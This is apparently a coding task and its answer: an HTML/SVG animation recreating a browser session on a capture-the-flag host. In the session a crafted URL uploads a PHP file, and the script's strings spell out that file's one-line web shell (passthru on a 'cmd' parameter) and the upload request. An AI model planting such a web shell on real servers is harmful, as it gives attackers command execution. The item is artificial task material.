
Recreate the animation shown at these times as an HTML page. Size 1024x440 px, loop 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Page upload</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #fefefd; }
  svg { display: block; width: 1024px; height: 440px; }
  text { text-rendering: geometricPrecision; font-family: "Noto Sans", "Open Sans", sans-serif; font-size: 7.87px; fill: #f1f1f2; }
  .page { font-family: "DejaVu Serif", "Noto Serif", serif; font-size: 8.533px; fill: #000; }
  .page.picked { fill: #fff; }
  #hit { font-size: 7.44px; font-weight: 700; fill: #fff; }
  .visit { font-size: 6.9px; fill: #d6e4ff; }
  .hint { fill: #8d8f94; }
  .icon { fill: none; stroke: #dcdcdd; stroke-width: 1.05; stroke-linecap: round; stroke-linejoin: round; }
  .solid { fill: #dcdcdd; stroke: none; }
  #frame.open { filter: drop-shadow(0 1px 2.6px rgba(0, 0, 0, .3)); }
</style>
</head>
<body>
<svg viewBox="0 0 1024 440">
  <defs><clipPath id="pickClip"><rect id="clipBox" y="24.4" height="10.2"/></clipPath></defs>
  <rect width="1024" height="440" fill="#fefefd"/>

  <text class="page" id="page" x="4.2" y="32.6"></text>
  <rect id="pick" y="24.4" height="10.2"/>
  <text class="page picked" id="picked" x="4.2" y="32.6" clip-path="url(#pickClip)"></text>

  <rect width="1024" height="20" fill="#42434a"/>
  <rect y="19.4" width="1024" height="1" fill="#1d1d21"/>

  <g class="icon">
    <circle cx="10.8" cy="9.2" r="7.9" fill="#696a70" stroke="#808187" stroke-width=".6"/>
    <path d="M14.6 9.2H7M10.2 5.7L6.7 9.2l3.5 3.5"/>
    <path id="forward" d="M24.6 9.2h7.6M29 5.7l3.5 3.5-3.5 3.5"/>
    <path d="M48.6 7.2a3.6 3.6 0 1 0 .4 2.8M49.2 5v2.7h-2.7"/>
    <path d="M58.4 9.4l3.9-3.8 3.9 3.8M59.6 8.8v4h1.9v-2.4h1.7v2.4h1.8v-4"/>
    <path d="M890.5 5.2v5.2M888.2 8.3l2.3 2.3 2.3-2.3M887.2 12.8h6.6"/>
    <path d="M904.2 5.8v6.8M906.4 5.8v6.8M908.3 5.8v6.8M909.8 6l2 6.5"/>
    <rect x="921" y="5.7" width="7.4" height="7" rx="1"/>
    <path d="M924.2 6v6.5M922.3 8h.8M922.3 10h.8"/>
    <circle cx="941.8" cy="9.2" r="3.7"/>
    <path d="M939.6 11.8q2.2-1.8 4.4 0"/>
    <circle class="solid" cx="941.8" cy="8.2" r="1.4"/>
    <path d="M1011.6 6.6h6M1011.6 9.2h6M1011.6 11.8h6"/>
  </g>
  <circle cx="959" cy="9.2" r="3.8" fill="#8a9196"/>
  <circle cx="976.2" cy="9.2" r="4.2" fill="#e0191f"/>
  <rect x="988.8" y="8.3" width="8.6" height="1.9" rx=".9" fill="#17181b"/>
  <path d="M1003.6 1.5v16" stroke="#5b5c62" stroke-width=".7"/>

  <rect id="frame" fill="#25282f"/>
  <g id="popup">
    <rect x="134" y="24" width="685.3" height="17.2" rx=".8" fill="#2676fb"/>
    <path d="M134 45h685" stroke="#1b1d23" stroke-width=".6"/>
    <g class="icon" stroke-width=".8">
      <circle cx="141.5" cy="33.5" r="3.9"/>
      <ellipse cx="141.5" cy="33.5" rx="1.7" ry="3.9"/>
      <path d="M137.8 33.5h7.4"/>
    </g>
    <text id="hit" x="150" y="36.1"></text>
    <text class="visit" id="dash" y="36.1">—</text>
    <text class="visit" id="visit" y="36.2">Visit</text>
    <text class="hint" x="138" y="65.5">This time, search with:</text>
    <rect x="233.3" y="58.3" width="8.6" height="8.6" rx="1" fill="#f4f4f2"/>
    <circle cx="259" cy="62.5" r="3.7" fill="#2c80dc"/>
    <circle cx="280.3" cy="62.5" r="4.3" fill="#d9663a"/>
    <circle cx="301.6" cy="62.5" r="4.3" fill="#f4f4f4"/>
    <rect x="318.6" y="58.2" width="8.6" height="8.6" fill="#f1f1f1"/>
    <g class="icon">
      <circle cx="810.3" cy="62.5" r="2.4" stroke-width=".9"/>
      <circle cx="810.3" cy="62.5" r="3.5" stroke-width="1.1" stroke-dasharray="1 1.75" stroke-linecap="butt"/>
    </g>
  </g>

  <g class="icon" id="search">
    <circle cx="140.2" cy="8.2" r="2.8" stroke="#b5b6b9" stroke-width=".9"/>
    <path d="M142.4 10.4l2.8 2.8" stroke="#b5b6b9"/>
  </g>
  <path class="icon" id="go" d="M807.8 9.2h7.4M812.2 6.2l3 3-3 3" stroke-width=".9"/>
  <g class="icon" id="site">
    <path d="M141.4 5.3l3.1 1.1q.2 4.5-3.1 6.7q-3.3-2.2-3.1-6.7z" stroke-width=".9"/>
    <path class="solid" d="M141.4 6.6l1.9.7q0 2.8-1.9 4.4z" opacity=".55"/>
    <rect class="solid" x="154.4" y="8.9" width="5.2" height="4" rx=".6"/>
    <path d="M155.5 8.6V7.4a1.5 1.5 0 0 1 3 0v1.2" stroke-width=".9"/>
    <path d="M153.7 12.9l6.8-7.2" stroke="#ff4a5a"/>
    <g class="solid"><circle cx="778.5" cy="9.2" r=".95"/><circle cx="781.6" cy="9.2" r=".95"/><circle cx="784.7" cy="9.2" r=".95"/></g>
    <rect class="solid" x="793.2" y="6" width="6.6" height="6.6"/>
    <path d="M811.5 5l1.3 2.8 3 .4-2.2 2.1.6 3-2.7-1.5-2.7 1.5.6-3-2.2-2.1 3-.4z" stroke-width=".85"/>
  </g>

  <rect id="mark" y="4" height="10.8" fill="#2a76fb"/>
  <text id="url" y="12.2"></text>
  <rect id="caret" y="4.4" width=".8" height="10" fill="#fff"/>
</svg>

<script>
const LOOP = 8000;
const $ = id => document.getElementById(id);
const set = (id, attrs) => { for (const k in attrs) $(id).setAttribute(k, attrs[k]); };
const show = (id, on) => { $(id).style.display = on ? '' : 'none'; };

// Value of the last row whose time has been reached.
const at = (rows, t) => rows.reduce((found, row) => row[0] <= t ? row : found)[1];

// Addresses are [text, letter spacing] runs.
const host = 'hr-panel.interiut.ctf';
const query = ['xCF8Pd382Qp3zOZTaS7H.php?pageName=helloRCE&pageContent=', .13];
const code = ['<' + '?php passthru($_GET["cmd"]); ?' + '>', .2];
const encoded = ['%3C?php%20passthru($_GET[%22cmd%22]);%20?%3E', .31];
const script = host + '/maintenance/scripts/';
const full = [['http://' + script, 0], query, code];
const loading = [[script, 0], query, encoded];
const short = [[script, 0], query, code];
const uploaded = [['http://' + host + '/maintenance/templating_pages/helloRCE.php', 0]];

const urls = [[0, full], [400, loading], [500, short], [3800, full], [6300, uploaded]];
const modes = [[0, 'popup'], [400, 'search'], [500, 'site'], [6300, 'popup']];
const frames = [ // left, right, bottom
  [0, [132, 820.5, 77.5]], [100, [131, 821.7, 78.4]], [200, [130.3, 822.6, 79]],
  [400, null],
  [3800, [132, 820.5, 18.8]], [3900, [131, 821.7, 19.7]], [4000, [130.3, 822.6, 20.3]],
  [6300, [130.3, 822.6, 79]]
];
const carets = [[0, 'end'], [400, 0], [4800, 29], [5000, 0], [6300, 'end'], [7400, 0]];
const prefix = 'Page uploaded to /maintenance/templating_pages/';
const pages = [[0, prefix + 'info.php'], [600, prefix + 'helloRCE.php']];
// First selected character of the page text, dragged backwards from its end.
const picks = [[0, -1], [1400, 55], [1500, 41], [1600, 21], [1700, 8], [1800, 14],
  [2000, 17], [2400, 16], [2900, 17]];

function charX(id, i) {
  const el = $(id), n = el.getNumberOfChars();
  return i < n ? el.getStartPositionOfChar(i).x : el.getEndPositionOfChar(n - 1).x;
}

function write(id, runs, spread = 1) {
  $(id).replaceChildren(...runs.map(([text, spacing]) => {
    const span = document.createElementNS('http://www.w3.org/2000/svg', 'tspan');
    span.textContent = text;
    span.style.letterSpacing = spacing * spread + 'px';
    return span;
  }));
}

function drawPage(t) {
  const text = at(pages, t), first = at(picks, t);
  $('page').textContent = $('picked').textContent = text;
  show('pick', first >= 0);
  show('picked', first >= 0);
  if (first < 0) return;
  const x = charX('page', first), span = { x, width: charX('page', text.length) - x };
  set('pick', { ...span, fill: t < 3800 ? '#3584e4' : '#b4b4b4' });
  set('clipBox', span);
}

function drawFrame(t, popup) {
  const box = at(frames, t);
  const [left, right, bottom] = box || [133.6, 819.6, 17.3];
  const top = box ? -3 : 1.1;
  set('frame', {
    x: left, y: top, width: right - left, height: bottom - top, rx: 1.6,
    stroke: box ? '#2a64c4' : '#18191d', 'stroke-width': box ? .8 : .6,
    class: popup ? 'open' : ''
  });
}

function drawUrl(t, mode) {
  const runs = at(urls, t), popup = mode === 'popup';
  write('url', runs);
  set('url', { x: mode === 'site' ? 165.5 : 150 });
  const end = $('url').getNumberOfChars();

  let from = 0, to = 0;
  if (t >= 3800 && t < 4800) to = end;
  if (t >= 5300 && t < 6300) {
    const step = Math.min(8, Math.floor((t - 5300) / 100) + 1);
    from = 28;
    to = Math.round(from + (end - from) * step / 8);
  }
  show('mark', to > from);
  if (to > from) {
    const x = charX('url', from);
    set('mark', { x, width: charX('url', to) - x });
  }

  const caret = at(carets, t);
  show('caret', caret);
  if (caret) set('caret', { x: charX('url', caret === 'end' ? end : caret) });

  show('popup', popup);
  if (popup) {
    write('hit', runs, 1.35);
    const x = runs === full ? 722 : 426.5;
    set('dash', { x });
    set('visit', { x: x + 12 });
  }
}

function draw(t) {
  const mode = at(modes, t), popup = mode === 'popup';
  drawPage(t);
  drawFrame(t, popup);
  drawUrl(t, mode);
  show('search', mode !== 'site');
  show('site', mode === 'site');
  show('go', popup);
  set('forward', { stroke: t < 500 ? '#dcdcdd' : '#77787d' });
}

// Every change falls on a tenth of a second.
let last = -1;
function tick() {
  const t = Math.floor(performance.now() % LOOP / 100) * 100;
  if (t !== last) draw(last = t);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
